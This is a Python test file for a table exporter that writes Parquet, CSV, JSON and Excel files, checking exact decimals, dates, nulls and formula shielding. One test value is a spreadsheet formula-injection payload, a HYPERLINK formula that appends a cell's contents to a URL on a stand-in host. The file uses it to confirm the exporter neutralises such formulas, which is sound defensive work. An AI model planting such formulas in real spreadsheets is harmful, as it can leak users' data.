"""One table in every format: exact figures, nulls that are no zeros, days that are days, texts that are no formulas."""

from __future__ import annotations

import csv
import json
from contextlib import closing
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from perfxl.errors import UsageFault
from perfxl.render.tables import FORMATS, Column, Row, Shape, check_format, needed_places, number_of, open_table
from perfxl.render.tables.sheets import XlsxFile
from perfxl.render.tables.texts import FORMULA_STARTS, shielded

pq = pytest.importorskip("pyarrow.parquet")

SHAPE = Shape(
    table="figures",
    columns=(
        Column(id="name", label="名称"),
        Column(id="amount", label="金额", kind="number", places=2, unit="万元"),
        Column(id="day", label="日期", kind="date"),
        Column(id="round", label="轮次", kind="whole"),
        Column(id="signed", label="签名", kind="flag"),
    ),
)
HOSTILE = '=HYPERLINK("http://127.0.0.1/?"&A1,"点这里")'
ROWS: list[Row] = [
    ["甲局", "111.97", "2021-03-04", 1, True],
    [HOSTILE, "-0.18", "1899-12-31", 2, False],
    [None, None, None, None, None],
    ["'引号", "0", "2021-12-31", 3, False],
    ['a,b\n"c"', "0.333333333333333333", None, None, None],
]  # fmt: skip


def written(kind: str, folder: Path, rows: list[Row] | None = None) -> Path:
    rows = ROWS if rows is None else rows
    path = folder / f"figures.{kind}"
    with closing(open_table(kind, path, SHAPE.widened(needed_places(SHAPE.columns, rows)))) as file:
        for row in rows:
            file.write(row)
    return path


def test_parquet_has_exact_decimals_days_and_nulls(tmp_path):
    table = pq.read_table(written("parquet", tmp_path))
    assert [str(field.type) for field in table.schema] == [
        "string", "decimal128(38, 18)", "date32[day]", "int64", "bool",
    ]  # fmt: skip
    assert table.schema.field("amount").metadata == {b"label": "金额".encode(), b"unit": "万元".encode()}
    rows = table.to_pylist()
    assert [row["amount"] for row in rows] == [
        Decimal("111.97"), Decimal("-0.18"), None, Decimal(0), Decimal("0.333333333333333333"),
    ]  # fmt: skip
    assert [row["day"] for row in rows[:3]] == [date(2021, 3, 4), date(1899, 12, 31), None]
    assert rows[1]["name"] == HOSTILE
    assert rows[2] == dict.fromkeys(table.column_names)


def test_a_table_without_a_figure_beyond_the_form_s_decimals_has_the_form_s_type(tmp_path):
    schema = pq.read_schema(written("parquet", tmp_path, ROWS[:4]))
    assert str(schema.field("amount").type) == "decimal128(18, 2)"
    assert SHAPE.columns[1].type == "decimal(18,2)"


def test_parquet_is_written_group_by_group(tmp_path):
    from perfxl.render.tables.parquet import ParquetFile

    path = tmp_path / "figures.parquet"
    with closing(ParquetFile(path, SHAPE.widened([0, 18, 0, 0, 0]), group_rows=2)) as file:
        for row in ROWS:
            file.write(row)
    assert [pq.ParquetFile(path).metadata.row_group(at).num_rows for at in range(3)] == [2, 2, 1]


def test_csv_has_plain_figures_and_shields_texts_a_spreadsheet_would_run(tmp_path):
    path = written("csv", tmp_path)
    assert path.read_bytes().startswith("\ufeffname,amount,day,round,signed\r\n".encode())
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))[1:]
    assert rows == [
        ["甲局", "111.97", "2021-03-04", "1", "true"],
        [f"'{HOSTILE}", "-0.18", "1899-12-31", "2", "false"],
        ["", "", "", "", ""],
        ["''引号", "0", "2021-12-31", "3", "false"],
        ['a,b\n"c"', "0.333333333333333333", "", "", ""],
    ]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_whatever_begins_a_formula_is_shielded_and_can_be_had_back(start: str):
    text = f"{start}1+1"
    assert shielded(text) == f"'{text}"
    assert shielded(text)[1:] == text
    assert shielded(f"1{text}") == f"1{text}"


def test_json_is_an_array_with_a_line_a_row(tmp_path):
    path = written("json", tmp_path)
    rows = json.loads(path.read_text("utf-8"))
    assert rows == [dict(zip(("name", "amount", "day", "round", "signed"), row, strict=True)) for row in ROWS]
    assert len(path.read_text("utf-8").splitlines()) == len(ROWS) + 2
    assert json.loads(written("json", tmp_path, []).read_text("utf-8")) == []


def test_xlsx_has_numbers_days_and_no_formula(tmp_path):
    path = written("xlsx", tmp_path)
    sheet = openpyxl.load_workbook(path)["figures"]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
    assert rows[0] == ["甲局", 111.97, datetime(2021, 3, 4), 1, True]  # noqa: DTZ001 - as openpyxl has it
    assert rows[1] == [HOSTILE, -0.18, "1899-12-31", 2, False]
    assert rows[2] == [None] * 5
    assert rows[4][1] == "0.333333333333333333"  # more digits than Excel keeps: exact as a text
    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds
    assert sheet["A3"].data_type == "s"


def test_xlsx_goes_on_in_another_sheet_where_one_is_full(tmp_path):
    path = tmp_path / "figures.xlsx"
    with closing(XlsxFile(path, SHAPE, most_rows=3)) as file:
        for row in ROWS:
            file.write(row)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["figures", "figures (2)", "figures (3)"]
    assert [sheet.max_row for sheet in book.worksheets] == [3, 3, 2]
    assert {sheet["A1"].value for sheet in book.worksheets} == {"name"}


@pytest.mark.parametrize("kind", FORMATS)
def test_two_runs_give_the_same_bytes(kind: str, tmp_path):
    for name in ("one", "two"):
        (tmp_path / name).mkdir()
    assert written(kind, tmp_path / "one").read_bytes() == written(kind, tmp_path / "two").read_bytes()


@pytest.mark.parametrize(
    ("given", "held"),
    [
        (Decimal("98.00"), "98"), (Decimal("1E+3"), "1000"), (Decimal("-0"), "0"), ("-1.50", "-1.5"), (None, None),
        (Decimal("1E+12"), None), (Decimal("1E-21"), None), (Decimal("NaN"), None),
    ],
)  # fmt: skip
def test_a_number_is_decimal_text_or_fits_no_column(given: object, held: str | None):
    assert number_of(given) == held


def test_without_its_library_parquet_says_how_to_get_it(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setitem(__import__("sys").modules, "pyarrow", None)
    with pytest.raises(UsageFault) as fault:
        check_format("parquet")
    assert fault.value.key == "fault.extract.parquet"
    check_format("csv")
